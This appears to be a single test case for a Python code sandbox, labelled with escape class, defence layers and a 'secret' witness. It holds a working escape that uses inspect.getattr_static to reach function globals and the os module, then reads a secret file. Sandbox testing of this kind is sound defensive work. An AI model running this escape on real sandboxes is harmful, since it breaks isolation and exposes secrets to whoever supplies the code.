# class: attribute access without a dot
# technique: inspect reads attributes by names
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: codecs, importlib, inspect, io, linecache, pathlib, pickle, timeit, uuid
# witness: secret
host = _items[0]["json"]
import inspect
g = inspect.getattr_static(quit.__init__.__func__, '__globals__').__get__(quit.__init__.__func__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
